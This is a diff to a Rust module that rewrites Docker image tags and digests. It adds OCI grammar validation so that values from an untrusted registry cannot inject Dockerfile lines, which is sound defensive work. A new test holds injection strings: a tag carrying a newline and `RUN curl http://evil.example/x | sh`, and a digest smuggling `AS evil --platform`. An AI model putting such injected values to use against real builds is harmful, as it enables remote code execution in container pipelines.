@@ -7,6 +7,7 @@
 use std::collections::{BTreeMap, BTreeSet};
 use std::ops::Range;
 
+use super::reference;
 use crate::docker::{Base, Dockerfile, ImageRef, ParseError, UseKind};
 
 /// What part of a reference a site's span holds.
@@ -159,20 +160,24 @@ fn variable_name(s: &str) -> Option<&str> {
         .then_some(name)
 }
 
-/// The reference text with a new tag and digest, keeping the name as written.
-pub fn rewrite(written: &str, kind: SiteKind, tag: &str, digest: Option<&str>) -> String {
+/// The reference text with a new tag and digest, keeping the name as written; `None` when the
+/// tag or the digest is not of the OCI grammar (they come from a registry, which is not trusted).
+pub fn rewrite(written: &str, kind: SiteKind, tag: &str, digest: Option<&str>) -> Option<String> {
+    if !reference::is_tag(tag) || digest.is_some_and(|d| !reference::is_sha256_digest(d)) {
+        return None;
+    }
     if kind == SiteKind::ArgTag {
-        return tag.to_string();
+        return Some(tag.to_string());
     }
     let name = written.split_once('@').map_or(written, |(n, _)| n);
     let name = match name.rsplit_once(':') {
         Some((n, t)) if !t.contains('/') => n,
         _ => name,
     };
-    match digest {
+    Some(match digest {
         Some(d) => format!("{name}:{tag}@{d}"),
         None => format!("{name}:{tag}"),
-    }
+    })
 }
 
 #[cfg(test)]
@@ -217,22 +222,39 @@ mod tests {
 
     #[test]
     fn rewrites_keep_the_name_as_written() {
+        let cd = format!("sha256:{}", "cd".repeat(32));
         assert_eq!(
             rewrite(
                 "docker.io/python:3.12@sha256:ab",
                 SiteKind::From,
                 "3.13",
-                Some("sha256:cd")
+                Some(&cd)
             ),
-            "docker.io/python:3.13@sha256:cd"
+            Some(format!("docker.io/python:3.13@{cd}"))
         );
         assert_eq!(
-            rewrite("localhost:5000/x:1", SiteKind::From, "2", None),
-            "localhost:5000/x:2"
+            rewrite("localhost:5000/x:1", SiteKind::From, "2", None).as_deref(),
+            Some("localhost:5000/x:2")
         );
         assert_eq!(
-            rewrite("20-alpine", SiteKind::ArgTag, "22-alpine", None),
-            "22-alpine"
+            rewrite("20-alpine", SiteKind::ArgTag, "22-alpine", None).as_deref(),
+            Some("22-alpine")
+        );
+    }
+
+    #[test]
+    fn rewrite_refuses_what_is_not_a_tag_or_digest() {
+        let injected = "3.99\nRUN curl http://evil.example/x | sh";
+        assert_eq!(rewrite("python:3.12", SiteKind::From, injected, None), None);
+        assert_eq!(rewrite("3.12", SiteKind::ArgTag, injected, None), None);
+        assert_eq!(
+            rewrite(
+                "python:3.12",
+                SiteKind::From,
+                "3.13",
+                Some("sha256:abc AS evil --platform=linux/evil")
+            ),
+            None
         );
     }
 }
